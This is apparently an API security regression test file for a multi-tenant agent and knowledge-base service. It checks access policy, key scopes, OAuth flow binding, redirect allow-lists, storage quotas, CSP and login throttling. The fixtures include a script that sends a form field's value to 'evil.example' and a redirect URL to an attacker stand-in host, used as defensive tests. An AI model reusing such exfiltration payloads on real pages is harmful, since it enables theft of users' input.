import { describe, expect, it } from "vitest";
import { kbWithDocument } from "../chats/chat-helpers";
import { createAgent, runAgent } from "../agents/agent-helpers";
import { mint, SITE } from "../embed/embed-helpers";
import { approve, callback, DONE, openFlow } from "../connectors/helpers";
import { addMember, BASE, call, createKb, createKey, createOrg, createTenant, expectError, expectStatus, fetchWorker, signup, type TestOrg } from "../helpers";

/**
 * The attacks of issue 23, as a user of the API would try them: each door into a resource asks the
 * one access policy (src/auth/policy.ts) and answers what the REST route answers.
 */

const rpc = (agentId: string, auth: { cookie?: string; key?: string }, method: string, params: unknown) =>
  call(`/agents/${agentId}/a2a`, { ...auth, body: { jsonrpc: "2.0", id: 1, method, params } });

const TASK_NOT_FOUND = -32001;

describe("A2A task methods see exactly the runs the REST run routes show", () => {
  it("a viewer or an API key cannot read or cancel a member's private run through the agent's A2A endpoint", async () => {
    const { org, kb } = await kbWithDocument();
    const dev = await addMember(org, "developer");
    const viewer = await addMember(org, "viewer");
    const agent = await createAgent({ cookie: org.owner.cookie }, kb);
    const run = expectStatus(await runAgent({ cookie: dev.cookie }, agent.id, { content: "What is the refund policy?" }), 200).run;
    const key = (await createKey(org, { scopes: ["query:rag", "agents:read"] })).key;

    // The owner of the run reads it both ways.
    expectStatus(await call(`/agents/${agent.id}/runs/${run.id}`, { cookie: dev.cookie }), 200);
    expect(expectStatus(await rpc(agent.id, { cookie: dev.cookie }, "GetTask", { id: run.id }), 200).result.id).toBe(run.id);

    for (const outsider of [{ cookie: viewer.cookie }, { key }, { cookie: org.owner.cookie }]) {
      expectError(await call(`/agents/${agent.id}/runs/${run.id}`, outsider), 404, "not_found");
      for (const [method, params] of [
        ["GetTask", { id: run.id }],
        ["tasks/get", { id: run.id }],
        ["CancelTask", { id: run.id }],
        ["tasks/cancel", { id: run.id }],
      ] as const) {
        const r = expectStatus(await rpc(agent.id, outsider, method, params), 200);
        expect(r.error?.code, `${method} ${JSON.stringify(r)}`).toBe(TASK_NOT_FOUND);
        expect(JSON.stringify(r)).not.toContain("refund");
      }
    }
    // Nothing about it changed.
    expect(expectStatus(await call(`/agents/${agent.id}/runs/${run.id}`, { cookie: dev.cookie }), 200).status).toBe("completed");
  });
});

describe("a key never holds more than the member who made it", () => {
  it("a developer cannot mint tenant or admin scopes; owners and billing admins can; viewers mint none", async () => {
    const org = await createOrg();
    const dev = await addMember(org, "developer");
    const billing = await addMember(org, "billing_admin");
    const viewer = await addMember(org, "viewer");
    const url = `/environments/${org.envId}/api-keys`;
    for (const scope of ["admin:full", "tenants:write", "tenants:delete"]) {
      const e = expectError(await call(url, { cookie: dev.cookie, body: { name: "k", scopes: ["documents:read", scope] } }), 403, "forbidden");
      expect(e.message).toContain(scope);
    }
    expectStatus(await call(url, { cookie: dev.cookie, body: { name: "k", scopes: ["documents:read", "documents:write", "tenants:read", "query:rag"] } }), 201);
    expectStatus(await call(url, { cookie: billing.cookie, body: { name: "k", scopes: ["admin:full"] } }), 201);
    expectError(await call(url, { cookie: viewer.cookie, body: { name: "k", scopes: ["documents:read"] } }), 403, "forbidden");
  });

  it("a key stops working when its member is removed, or demoted below what it holds", async () => {
    const org = await createOrg();
    const dev = await addMember(org, "developer");
    const billing = await addMember(org, "billing_admin");
    const url = `/environments/${org.envId}/api-keys`;
    const devKey = expectStatus(await call(url, { cookie: dev.cookie, body: { name: "k", scopes: ["tenants:read"] } }), 201).key;
    const adminKey = expectStatus(await call(url, { cookie: billing.cookie, body: { name: "k", scopes: ["tenants:read", "tenants:write"] } }), 201).key;
    const plainKey = expectStatus(await call(url, { cookie: billing.cookie, body: { name: "k", scopes: ["tenants:read"] } }), 201).key;
    for (const key of [devKey, adminKey, plainKey]) expectStatus(await call(`/tenants/${org.tenantId}`, { key }), 200);

    // Demoted to developer: the key with tenants:write stops, the plain one keeps working.
    expectStatus(await call(`/organizations/${org.id}/members/role`, { cookie: org.owner.cookie, body: { user_id: billing.id, role: "developer" } }), 200);
    expectError(await call(`/tenants/${org.tenantId}`, { key: adminKey }), 401, "unauthorized");
    expectStatus(await call(`/tenants/${org.tenantId}`, { key: plainKey }), 200);

    // Removed: every key they made stops.
    const members = expectStatus(await call(`/organizations/${org.id}/members`, { cookie: org.owner.cookie }), 200).members as Array<{ member_id: string; user_id: string }>;
    const membership = members.find((m) => m.user_id === dev.id)!;
    expect((await call(`/organizations/${org.id}/members/${membership.member_id}`, { cookie: org.owner.cookie, method: "DELETE" })).status).toBe(204);
    expect(expectError(await call(`/tenants/${org.tenantId}`, { key: devKey }), 401, "unauthorized").message).toMatch(/no longer/);
  });
});

describe("delegation stays inside the caller's reach", () => {
  it("an embed token and a knowledge-base key cannot reach another tenant's knowledge base through delegate_agent_ids", async () => {
    const { org, kb } = await kbWithDocument();
    const owner = { cookie: org.owner.cookie };
    const other = await createTenant(org, { credits_pool: 50 });
    const secretKb = await createKb(org, { tenant_id: other.id });
    expectStatus(await call(`/knowledge-bases/${secretKb.id}`, { ...owner, method: "PATCH", body: { agent_sharing: { inbound_delegation_enabled: true } } }), 200);
    const foreign = await createAgent(owner, secretKb, { name: "Payroll desk" });
    const token = (await mint(owner, kb)).token;
    const kbKey = (await createKey(org, { scopes: ["query:rag"], knowledge_base_id: kb.id })).key;
    const body = { id: crypto.randomUUID(), tenant_id: org.tenantId, knowledge_base_id: kb.id, model: "local-extractive", message: "salaries?", delegate_agent_ids: [foreign.id] };
    for (const auth of [{ key: token, headers: { Origin: SITE } }, { key: kbKey }, owner]) {
      const e = expectError(await call("/chats", { ...auth, body: { ...body, id: crypto.randomUUID() } }), 400, "invalid_request");
      expect(e.message).toContain(foreign.id);
    }
    expect(expectStatus(await call(`/agents/${foreign.id}/runs`, owner), 200).total).toBe(0);
  });
});

describe("connect flows are bound to the browser that started them", () => {
  it("a flow finished in another person's browser connects nothing; a forwarded link opens only for its starter", async () => {
    const attacker = await signup();
    const victim = await signup();
    const started = expectStatus(await call("/connectors/add", { cookie: attacker.cookie, body: { slug: "github", redirect_url: DONE } }), 200);
    expect(started.redirect_url.startsWith(`${BASE}/api/v1/oauth-flows/`)).toBe(true);

    // Forwarded to the victim: their browser (signed in as someone else) cannot open it.
    const forwarded = await fetchWorker(started.redirect_url, { redirect: "manual", headers: { Cookie: victim.cookie } });
    expect(forwarded.status).toBe(400);
    expect(forwarded.headers.get("Set-Cookie")).toBeNull();

    // The attacker opens it, then has the victim approve at the provider: the victim's browser has no flow cookie.
    const attackerBrowser = new Map<string, string>();
    const providerUrl = await openFlow(started.redirect_url, attackerBrowser, attacker.cookie);
    const back = await approve(providerUrl);
    const inVictimBrowser = await callback(back, new Map());
    expect(inVictimBrowser.status).toBe(302);
    expect(Object.fromEntries(inVictimBrowser.location!.searchParams)).toMatchObject({ status: "error", error: "flow_not_started_here" });
    for (const who of [attacker, victim]) {
      const st = expectStatus(await call("/connectors/status", { cookie: who.cookie, body: { slugs: ["github"] } }), 200).statuses[0];
      expect(st.connected).toBe(false);
    }
    // A link opens once.
    expect((await fetchWorker(started.redirect_url, { redirect: "manual", headers: { Cookie: attacker.cookie } })).status).toBe(400);
  });

  it("final redirects are allow-listed: the service, localhost outside production, and the environment's allowed_redirect_origins", async () => {
    const org = await createOrg();
    const key = (await createKey(org, { scopes: ["connectors:write"] })).key;
    const owner = { tenant_id: org.tenantId, external_subject_id: "end-user-7" };
    const add = (redirect_url: string) => call("/connectors/add", { key, body: { slug: "github", redirect_url, ...owner } });
    const e = expectError(await add("https://evil.example/steal"), 400, "invalid_request");
    expect(e.details?.[0].path).toBe("body.redirect_url");
    expectStatus(await add(`${BASE}/console/connected`), 200);
    expectStatus(await add("http://localhost:3000/done"), 200);

    // Who may list origins: owner and developer, not billing_admin; https origins only, at most 20.
    const billing = await addMember(org, "billing_admin");
    const dev = await addMember(org, "developer");
    const patch = (cookie: string, body: unknown) => call(`/environments/${org.envId}`, { cookie, method: "PATCH", body });
    expectError(await patch(billing.cookie, { allowed_redirect_origins: ["https://app.example.com"] }), 403, "forbidden");
    expectStatus(await patch(billing.cookie, { name: "Production" }), 200);
    for (const bad of [["http://app.example.com"], ["https://app.example.com/path"], ["not an origin"], Array.from({ length: 21 }, (_, i) => `https://a${i}.example.com`)]) {
      expectError(await patch(dev.cookie, { allowed_redirect_origins: bad }), 400, "invalid_request");
    }
    const env1 = expectStatus(await patch(dev.cookie, { allowed_redirect_origins: ["https://app.example.com"] }), 200);
    expect(env1.allowed_redirect_origins).toEqual(["https://app.example.com"]);
    expect(expectStatus(await call(`/environments/${org.envId}`, { cookie: org.owner.cookie }), 200).allowed_redirect_origins).toEqual(["https://app.example.com"]);
    expectStatus(await add("https://app.example.com/integrations"), 200);
    expectError(await add("https://evil.example/steal"), 400, "invalid_request");
  });
});

describe("chat images count toward the tenant's storage and its quota", () => {
  const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";
  const bytes = atob(PNG).length;

  it("images sent with an embed token are counted, refused past the quota, and given back with the chat", async () => {
    const org: TestOrg = await createOrg();
    const owner = { cookie: org.owner.cookie };
    const tenant = await createTenant(org, { credits_pool: 50, max_storage_gb: (3 * bytes + 0.5) / 1e9 });
    const kb = await createKb(org, { tenant_id: tenant.id });
    const token = (await mint(owner, kb)).token;
    const used = async () => expectStatus(await call(`/tenants/${tenant.id}`, owner), 200).storage_used_bytes as number;
    expect(await used()).toBe(0);
    const chatBody = (n: number) => ({ id: crypto.randomUUID(), tenant_id: tenant.id, knowledge_base_id: kb.id, model: "local-extractive", message: "What is this?", images: Array(n).fill(`data:image/png;base64,${PNG}`) });
    const first = expectStatus(await call("/chats", { key: token, headers: { Origin: SITE }, body: chatBody(2) }), 201);
    expect(await used()).toBe(2 * bytes);
    // Two more would pass the quota: refused, and nothing is kept.
    expectError(await call("/chats", { key: token, headers: { Origin: SITE }, body: chatBody(2) }), 403, "quota_exceeded");
    expect(await used()).toBe(2 * bytes);
    expect(first.chat.id).toBeTruthy();
    // A member's chat counts the same; deleting it gives the bytes back.
    const mine = expectStatus(await call("/chats", { ...owner, body: chatBody(1) }), 201);
    expect(await used()).toBe(3 * bytes);
    expect((await call(`/chats/${mine.chat.id}`, { ...owner, method: "DELETE" })).status).toBe(204);
    expect(await used()).toBe(2 * bytes);
  });
});

describe("published HTML cannot reach the network", () => {
  it("the raw page's Content-Security-Policy names no http:, https: or * source in any directive", async () => {
    const org = await createOrg();
    const kb = await createKb(org);
    const content = `<!doctype html><html><body><input id="i"><script>new Image().src = "https://evil.example/?" + i.value</script></body></html>`;
    const a = expectStatus(await call(`/knowledge-bases/${kb.id}/artifacts`, { cookie: org.owner.cookie, body: { type: "html", title: "Form", summary: "s", content } }), 201);
    expectStatus(await call(`/artifacts/${a.id}/publish`, { cookie: org.owner.cookie, body: { visibility: "public" } }), 200);
    const raw = await fetchWorker(`${BASE}/p/${a.slug}/raw`);
    expect(raw.status).toBe(200);
    const csp = raw.headers.get("Content-Security-Policy")!;
    expect(csp.startsWith("sandbox allow-scripts;")).toBe(true);
    expect(csp).not.toContain("allow-same-origin");
    for (const directive of csp.split(";").map((d) => d.trim()).filter(Boolean)) {
      const sources = directive.split(/\s+/).slice(1);
      for (const s of sources) expect(/^(https?:|\*|https?:\/\/)/.test(s) || s.includes("*"), `${directive}`).toBe(false);
    }
  });
});

describe("sign-in throttling never locks the right password out for everyone", () => {
  it("failures count per account and client: the attacked client waits, the owner signs in from elsewhere", async () => {
    const u = await signup(undefined, "the-real-password");
    const from = (ip: string, password: string) => call("/auth/login", { body: { email: u.email, password }, headers: { "CF-Connecting-IP": ip } });
    for (let i = 0; i < 10; i++) expectError(await from("198.51.100.66", `wrong-${i}-xxxxx`), 401);
    const blocked = await from("198.51.100.66", "the-real-password");
    expectError(blocked, 429, "rate_limited");
    expect(Number(blocked.headers.get("Retry-After"))).toBeGreaterThan(1);
    // From the owner's own address: slowed at most a moment (Retry-After), never refused for the window.
    let ok = await from("203.0.113.7", "the-real-password");
    if (ok.status === 429) {
      expect(Number(ok.headers.get("Retry-After"))).toBeLessThanOrEqual(1);
      await new Promise((r) => setTimeout(r, 1100));
      ok = await from("203.0.113.7", "the-real-password");
    }
    expectStatus(ok, 200);
  });
});

